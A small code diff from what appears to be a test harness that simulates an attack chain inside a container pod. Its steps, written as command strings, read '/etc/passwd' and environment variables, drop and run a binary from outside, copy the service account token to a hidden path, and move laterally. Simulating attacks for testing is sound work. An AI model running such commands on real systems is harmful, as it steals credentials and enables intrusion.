@@ -88,7 +88,7 @@ def _check_dropped(terminal: Terminal) -> None:
 
 def _steps(backend: RunningPod, network: Network) -> tuple[_Step, ...]:
     return (
-        _Step("discovery", ("id", "uname -a", "cat /etc/passwd", "ps", "mount", "env | grep SERVICE")),
+        _Step("discovery", ("id", "uname -a", "cat /etc/passwd", "ps", "mount", "env | grep BACKEND")),
         _Step("a binary dropped and run", _drop(network.outside)),
         _Step("the service account token", (f"cat {TOKEN_DIRECTORY}/token > {_HIDEOUT}/t", f"T=$(cat {_HIDEOUT}/t)")),
         _Step("lateral movement to the backend", (_lateral(backend, network.outside),)),
